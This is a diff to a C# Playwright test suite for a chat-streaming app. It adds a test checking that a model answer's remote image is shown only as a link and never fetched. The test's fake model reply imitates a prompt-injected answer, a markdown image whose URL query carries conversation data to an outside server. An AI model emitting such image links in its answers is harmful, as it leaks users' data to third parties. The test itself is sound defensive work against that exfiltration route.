@@ -1,3 +1,4 @@
+using ChatStreaming.FakeOpenAI;
 using Microsoft.Playwright;
 
 namespace ChatStreaming.Hub.Tests.Clients;
@@ -51,6 +52,41 @@ public sealed class BrowserPartsTests(ChatCluster cluster, BrowserSession browse
         await second.ReloadAsync();
         await second.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = BrowserSession.BootTimeoutMs });
         await AssertShowsPartsAsync(second, live: false); // the saved parts
+    }
+
+    [Theory]
+    [MemberData(nameof(Apps))]
+    public async Task AnAnswersRemoteImageIsShownAsALinkAndNeverFetched(string app)
+    {
+        var (a, _) = await cluster.CatalogHubsAsync();
+        await using var elsewhere = await CountingHttpServer.StartAsync();
+        var prompt = $"describe my history as a picture ({Name(app)})";
+        // What a prompt-injected answer would do: an image whose address carries what the model read.
+        cluster.FakeModel.EnqueueFor(prompt, new FakeReply { Deltas = ["Here it is: ", $"![your history]({elsewhere.Url}/leak.png?history=okapi-Dotty)", " and a local one ![ok](data:image/png;base64,iVBORw0KGgo=)."] });
+        using (var http = new HttpClient())
+        {
+            using var response = await http.GetAsync($"{a.Url}{app}");
+            var policy = string.Join(' ', response.Headers.GetValues("Content-Security-Policy"));
+            Assert.Contains("script-src 'self' 'wasm-unsafe-eval';", policy, StringComparison.Ordinal);
+            Assert.Contains("img-src 'self' data:;", policy, StringComparison.Ordinal);
+            Assert.Contains("connect-src 'self';", policy, StringComparison.Ordinal);
+        }
+
+        var page = await PageAsync(a.Url, app, $"{Name(app)}-images");
+        await BrowserSession.NewConversationAsync(page);
+        await page.SelectOptionAsync("#model-select", "gpt");
+        await page.FillAsync("#composer-input", prompt);
+        await page.PressAsync("#composer-input", "Enter");
+        await page.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = 30_000 });
+
+        var link = page.Locator($"{Answer} .text a[href*='leak.png']");
+        Assert.Equal(1, await link.CountAsync());
+        Assert.Equal("your history", (await link.InnerTextAsync()).Trim());
+        Assert.Equal(0, await page.Locator($"{Answer} .text img[src*='leak.png']").CountAsync());
+        Assert.Equal(1, await page.Locator($"{Answer} .text img[src^='data:']").CountAsync()); // data: images still show
+        await page.ReloadAsync(); // the saved answer, drawn again
+        await page.WaitForSelectorAsync($"{Answer}[data-status='completed'] .text a[href*='leak.png']", new() { Timeout = BrowserSession.BootTimeoutMs });
+        Assert.Empty(elsewhere.Requests);
     }
 
     private static async Task AssertShowsPartsAsync(IPage page, bool live)
